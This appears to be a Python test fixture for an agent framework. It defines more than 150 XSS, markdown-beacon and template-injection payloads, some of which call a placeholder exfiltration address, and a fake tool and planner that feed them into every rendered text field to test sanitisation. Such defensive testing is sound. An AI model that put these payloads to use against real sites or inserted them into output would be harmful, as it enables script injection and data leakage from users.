"""Text from outside that would run or call home if it were taken for markup, and a tool that says it."""

from __future__ import annotations

from agent.evidence import Choice, QuestionBack
from agent.inquiry import Ask, Inquiry, Subject
from agent.planner.contract import Plan
from agent.planner.work import Work
from store.features.sets import FeatureSet
from store.geo import Region
from store.scenes import Caveat
from tests.fakes import png
from tools.contract import Bench, Finding, Method, Quantity, View
from tools.registry import tool

AWAY = "http://203.0.113.9/leak"
RUN = "window.ran=1"

_BASE = [
    f"<script>{RUN}</script>", f"<script src={AWAY}.js></script>", f"<img src=x onerror={RUN}>",
    f"<img src={AWAY}.png>", f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<body onload={RUN}>",
    f"<iframe src=javascript:{RUN}>", f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src={AWAY}>", f"<object data={AWAY}>", f"<embed src={AWAY}>",
    f"<video src={AWAY} autoplay>", f"<audio src={AWAY} onerror={RUN}>",
    f"<video><source onerror={RUN}></video>", f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>", f"<marquee onstart={RUN}>", f"<link rel=stylesheet href={AWAY}.css>",
    f"<style>@import '{AWAY}.css';</style>", f"<style>body{{background:url({AWAY})}}</style>",
    f"<div style=\"background:url({AWAY})\">x</div>", f"<base href={AWAY}/>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>", f"<form action={AWAY}><button>go</button></form>",
    f"<a href=javascript:{RUN}>x</a>", f"<a href={AWAY} ping={AWAY}>x</a>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math href=javascript:{RUN}>x</math>", f"<template><script>{RUN}</script></template>",
    f"![x]({AWAY}.png)", f"![x][ref]\n\n[ref]: {AWAY}.png", f"[click]({AWAY})", f"<{AWAY}>", AWAY,
    f"[x](javascript:{RUN})", f"[x](data:text/html,<script>{RUN}</script>)",
    f"```mermaid\ngraph TD;A[\"<img src={AWAY}>\"]-->B\n```", f"$$\\href{{javascript:{RUN}}}{{x}}$$",
    f"\\includegraphics{{{AWAY}}}", f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}", f"`{RUN}`", f"#{{{RUN}}}", f"<%= {RUN} %>", "{{7*7}}", "{% raw %}", "[E99#1]",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"\u202e<script>{RUN}</script>", "\u0000<b>x", f"<!--><script>{RUN}</script>-->",
]  # fmt: skip

PAYLOADS = [
    *_BASE,
    *(f'">{text}' for text in _BASE),
    *(f"'>{text}<x y='" for text in _BASE),
    *(text.upper() if "://" not in text else text.replace("<", "<  ") for text in _BASE[:12]),
]
"""More than 150 of them; those that call home name an address that no machine has."""


@tool("1")
def says_evil(bench: Bench, part: int = 0) -> Finding:
    """Say what is in the payloads wherever a finding has words."""
    boxes = [Region.lonlat(i / 100, 0, i / 100 + 0.005, 1).area for i in range(len(PAYLOADS))]
    texts = [
        Quantity(name=f"word_{n}", of=text, value=text, unit="text")
        for n, text in enumerate(PAYLOADS[part::9])
    ]
    region = Region.lonlat(0, 0, 2, 1)
    return Finding(
        quantities=[
            Quantity(name="count", of=PAYLOADS[part], value=3, unit="count", low=1, high=5, interval="spread"),
            *texts,
        ],
        method=Method(name=PAYLOADS[2], version="1", source=PAYLOADS[3], parameters={"p": PAYLOADS[4]}),
        region=region,
        features=FeatureSet.of("earth", boxes, name=list(PAYLOADS), note=list(reversed(PAYLOADS))),
        caveats=[Caveat(code="concept_loose", text=text) for text in PAYLOADS[:40]],
        views=[View(name="preview", png=png(), region=region, gsd_m=1.0, caption=PAYLOADS[2])],
    )  # fmt: skip


class EvilPlanner:
    """Understands, reasons and asks back in the words of the payloads."""

    name = PAYLOADS[2]

    def understand(self, question, conversation, catalog):
        of = Subject(phrase=PAYLOADS[0], label=PAYLOADS[2], one=PAYLOADS[4])
        return Inquiry(
            question=question, asked=[Ask(goal="count", of=of)], restated=" ".join(PAYLOADS[:30])
        )

    def plan(self, inquiry, turn, ledger, doubts, catalog, tools):
        work = Work(ledger, turn, [spec.name for spec in tools])
        if work.need("says_evil", PAYLOADS[2], part=turn % 9) is None:
            return Plan(calls=work.calls)
        if turn % 2:
            return Plan(enough=True)
        back = QuestionBack(
            text=" ".join(PAYLOADS[30:40]),
            choices=[Choice(label=text, value=text) for text in PAYLOADS[:8]],
        )
        return Plan(question_back=back)
